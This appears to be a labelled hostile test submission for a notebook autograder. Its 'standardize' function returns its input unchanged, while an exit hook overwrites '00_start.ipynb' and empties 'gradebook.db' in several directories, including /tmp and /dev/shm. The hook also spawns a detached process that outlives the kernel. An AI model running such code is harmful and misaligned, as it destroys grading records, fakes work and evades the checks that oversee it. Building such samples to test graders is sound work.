"""Acts when the kernel ends: forged messages, forged files, a process that goes on.

Deserves: 0
"""
# %% [standardize]
import atexit, os, subprocess, sys
def last():
    for place in (".", "..", "../..", "/tmp", "/dev/shm"):
        try:
            open(os.path.join(place, "00_start.ipynb"), "w").write("{}")
            open(os.path.join(place, "gradebook.db"), "w").write("")
        except OSError:
            pass
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)
atexit.register(last)
def standardize(x):
    return x
